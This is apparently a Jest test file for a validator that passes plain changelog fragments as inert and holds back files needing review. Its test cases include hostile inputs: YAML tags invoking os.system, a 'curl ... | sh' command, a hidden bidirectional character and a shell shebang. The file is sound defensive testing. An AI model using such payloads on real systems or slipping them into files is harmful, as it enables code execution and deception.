/** Notes of changes that are data: nothing but texts for users. */
import { describe, expect, it } from '@jest/globals';
import { listReasons } from './account.js';

const PLACE = 'changelogs/fragments/12-round.yml';
const NOTE = '---\nbugfixes:\n  - price - rounds cents\n    (https://example.com/shop/issues/12).\n';

describe('a note of a change', () => {
  it.each([PLACE, 'changelogs/unreleased/round.yaml', 'releasenotes/notes/round-1a2b.yaml', 'changelog.d/12.yml'])(
    'is inert: %s',
    async (path) => {
      expect(await listReasons({ [path]: { new: NOTE } })).toEqual(['inert']);
    },
  );

  it('is inert, whatever its texts look like', async () => {
    const text = 'bugfixes:\n- "price: rounds"\ntrivial:\n  - |\n    Rounds.\n\n    All of it.\n# For later.\n';
    expect(await listReasons({ [PLACE]: { new: text } })).toEqual(['inert']);
    expect(await listReasons({ [PLACE]: { old: NOTE, new: text } })).toEqual(['inert']);
  });

  it.each([
    'changelogs/config.yaml',
    'changelogs/fragments/template.yml',
    'tests/fixtures/changelogs/fragments/a.yml',
    'src/changelogs/fragments/a.yml',
    '.github/changelog.d/a.yml',
    'changelogs/fragments/deep/a.yml',
    'changelogs/fragments/a.py',
    'deploy/a.yml',
  ])('waits elsewhere: %s', async (path) => {
    expect(await listReasons({ [path]: { new: NOTE } })).toContain('unaccounted');
  });

  it.each([
    ['another key', 'script:\n  - price - rounds cents\n'],
    ['a tag', 'bugfixes:\n  - !!python/object/apply:os.system [id]\n'],
    ['a tag behind a key', 'title: !!python/name:os.system\n'],
    ['a reference', 'bugfixes:\n  - *other\n'],
    ['a map', 'bugfixes: {run: id}\n'],
    ['a merge', 'bugfixes:\n  <<: more\n'],
    ['a command to paste', 'bugfixes:\n  - run curl https://get.example.net/a | sh\n'],
    ['a character that nobody sees', 'bugfixes:\n  - price\u202e rounds\n'],
    ['a program', '#!/bin/sh\ntrivial:\n'],
  ])('waits with %s', async (_, text) => {
    expect(await listReasons({ [PLACE]: { new: text } })).toContain('unaccounted');
  });

  it('waits where it may be executed, or is a link', async () => {
    expect(await listReasons({ [PLACE]: { new: NOTE, newMode: '100755' } })).toContain('unaccounted');
  });
});
